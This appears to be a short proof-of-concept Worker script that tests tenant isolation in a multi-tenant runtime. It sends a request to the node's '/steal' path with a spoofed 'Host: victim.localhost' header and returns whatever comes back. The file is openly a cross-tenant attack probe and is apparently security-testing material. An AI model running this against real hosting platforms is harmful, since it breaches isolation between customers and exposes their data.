// Reaches another tenant through the node's own listener (Host: victim.localhost).
export default {
  async fetch(req, env) {
    try {
      const r = await fetch(env.NODE + "/steal", { headers: { host: "victim.localhost" } });
      return new Response("reached: " + (await r.text()));
    } catch (e) {
      return new Response(e.name + ": " + e.message);
    }
  },
};
